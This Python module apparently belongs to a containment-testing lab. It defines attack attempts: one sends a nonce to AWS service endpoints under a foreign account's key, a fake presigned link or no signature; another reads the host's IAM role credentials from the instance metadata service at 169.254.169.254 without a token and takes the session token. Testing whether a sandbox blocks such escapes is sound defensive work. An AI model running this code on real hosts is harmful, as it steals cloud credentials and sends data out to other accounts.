"""Attempts through AWS services: other accounts through endpoints, and the metadata service without a token."""

from __future__ import annotations

import http.client
import json

from containment_lab.attacks.task import Attempt, Technique, close_after_delivery, make_trusting_context

_FOREIGN_KEY = "AKIAFOREIGNFOREIGN00"


def call_aws(attempt: Attempt) -> None:
    """Call an AWS service with the nonce: signed with a foreign key, with a link presigned elsewhere, or unsigned."""
    service, how = attempt.get_option("service", "s3"), attempt.get_option("signed", "foreign")
    name = attempt.get_option("host") or f"{service}.{attempt.region}.amazonaws.com"
    attempt.options.setdefault("to", f"name:{name}")
    attempt.marks.append(name)
    path, sign = attempt.get_option("path", "/"), ""
    if how == "foreign":
        sign = f"Authorization: AWS4-HMAC-SHA256 Credential={_FOREIGN_KEY}/20260101/{attempt.region}/{service}/aws4_request\r\n"
    elif how == "presigned":
        path += f"?X-Amz-Credential={_FOREIGN_KEY}%2F20260101&X-Amz-Signature=0"
    method = attempt.get_option("method", "PUT")
    marker = "X-Lab-Account: foreign\r\n" if how != "none" or "attacker" in name + path else ""
    request = f"{method} {path} HTTP/1.1\r\nHost: {name}\r\n{sign}{marker}Content-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}"
    with close_after_delivery(attempt.connect(443)) as handle, make_trusting_context().wrap_socket(handle, server_hostname=name) as inside:
        inside.sendall(request.encode())
        inside.recv(4096)


def read_credentials(attempt: Attempt) -> None:
    """Read the host's credentials from the metadata service without a token."""
    attempt.marks.append("/latest/meta-data/iam/security-credentials/")
    base = "/latest/meta-data/iam/security-credentials/"
    role = _fetch_path(base)
    attempt.took.append(str(json.loads(_fetch_path(base + role))["Token"]))


def _fetch_path(path: str) -> str:
    connection = http.client.HTTPConnection("169.254.169.254", timeout=3)
    connection.request("GET", path)
    answer = connection.getresponse()
    if answer.status != 200:
        raise PermissionError(f"HTTP {answer.status}")
    return answer.read().decode()


TECHNIQUES: dict[str, Technique] = {"aws": call_aws, "metadata": read_credentials}
